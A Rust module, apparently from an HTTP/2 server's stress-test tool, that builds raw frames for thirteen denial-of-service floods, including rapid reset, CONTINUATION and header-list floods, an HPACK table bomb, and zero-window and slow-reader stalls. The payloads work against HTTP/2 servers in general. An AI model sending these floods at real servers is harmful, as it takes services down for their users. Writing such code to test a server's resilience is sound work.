//! The kinds of floods, and what an attacker sends.

use clap::ValueEnum;
use mainstay_wire::h2::PREFACE;

/// One of them.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum Kind {
    Reset,
    Continuation,
    List,
    Table,
    Ping,
    Settings,
    WindowUpdate,
    EmptyData,
    LateData,
    Priority,
    Malformed,
    ZeroWindow,
    SlowReader,
}

impl Kind {
    /// All of them, in the order of the table.
    pub(super) fn all() -> Vec<Self> {
        Self::value_variants().to_vec()
    }

    /// What the table says of it.
    pub(super) fn title(self) -> &'static str {
        match self {
            Self::Reset => "rapid reset: requests, each followed by RST_STREAM",
            Self::Continuation => "CONTINUATION: a field block without end, in empty frames",
            Self::List => "header list: a field block without end, in full frames",
            Self::Table => "header table: heads of 16 KB that stand for 48 MB",
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::WindowUpdate => "WINDOW_UPDATE",
            Self::EmptyData => "empty DATA",
            Self::LateData => "DATA on a stream that was reset",
            Self::Priority => "PRIORITY",
            Self::Malformed => "malformed requests",
            Self::ZeroWindow => "zero window: 100 requests whose answers may not be sent",
            Self::SlowReader => "slow reader: 100 requests for 64 KB each, nothing is read",
        }
    }

    /// Whether it reads what it is sent.
    pub(super) fn reads(self) -> bool {
        self != Self::SlowReader
    }

    /// Whether it sends all it has at once, and then only makes the other side wait.
    pub(super) fn waits(self) -> bool {
        matches!(self, Self::ZeroWindow | Self::SlowReader)
    }

    /// What a connection begins with.
    pub(super) fn begin(self) -> Vec<u8> {
        let window: u32 = if self == Self::ZeroWindow { 0 } else { 0x7fff_ffff };
        let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
        let mut bytes = [PREFACE.to_vec(), frame(4, 0, 0, &settings), frame(4, 1, 0, &[])].concat();
        if self.waits() {
            bytes.extend(frame(8, 0, 0, &0x7fff_0000_u32.to_be_bytes()));
            (0..REQUESTS).for_each(|number| bytes.extend(head(2 * number + 1, 5, BIG)));
        }
        bytes
    }

    /// What comes next, over and over.
    pub(super) fn frames(self, turn: u32) -> Vec<u8> {
        let id = 2 * turn + 1;
        match self {
            Self::Reset => [head(id, 5, SMALL), frame(3, 0, id, &[0, 0, 0, 8])].concat(),
            Self::Continuation | Self::List | Self::EmptyData | Self::LateData if turn == 0 => match self {
                Self::EmptyData => head(1, 4, SMALL),
                Self::LateData => [frame(1, 4, 1, LONGER_THAN_IT_SAYS), frame(0, 0, 1, b"xx")].concat(),
                _ => head(1, 0, SMALL),
            },
            Self::Continuation => frame(9, 0, 1, &[]),
            Self::List => frame(9, 0, 1, &[0; 16_384]),
            Self::Table => frame(1, 5, id, &bomb()),
            Self::Settings => frame(4, 0, 0, &[0, 3, 0, 0, 0, 1]),
            Self::WindowUpdate => frame(8, 0, 0, &[0, 0, 0, 1]),
            Self::EmptyData => frame(0, 0, 1, &[]),
            Self::LateData => frame(0, 0, 1, &[0; 16_384]),
            Self::Priority => frame(2, 0, 1, &[0, 0, 0, 3, 1]),
            Self::Malformed => frame(1, 5, id, b"\x83\x86"),
            // The others wait, and show now and again that they are there.
            Self::Ping | Self::ZeroWindow | Self::SlowReader => frame(6, 0, 0, &[0; 8]),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request, or with no flags the first part of its head.
fn head(stream: u32, flags: u8, path: u8) -> Vec<u8> {
    frame(1, flags, stream, &[&b"\x83\x86\x44\x02/"[..], &[path], b"\x41\x01a"].concat())
}

/// Names one field of 4 KB, and then that field again and again.
fn bomb() -> Vec<u8> {
    let mut block = b"\x83\x86\x84\x41\x01a\x40\x01x\x7f\xa1\x1e".to_vec();
    block.extend_from_slice(&[b'v'; 4000]);
    block.extend_from_slice(&[0xbe; 12_000]);
    block
}

/// A request that says it has a body of one byte.
const LONGER_THAN_IT_SAYS: &[u8] = b"\x83\x86\x84\x41\x01a\x0f\x0d\x011";
/// Paths.
const SMALL: u8 = b's';
const BIG: u8 = b'b';
/// Requests of those that wait, on each connection.
const REQUESTS: u32 = 100;
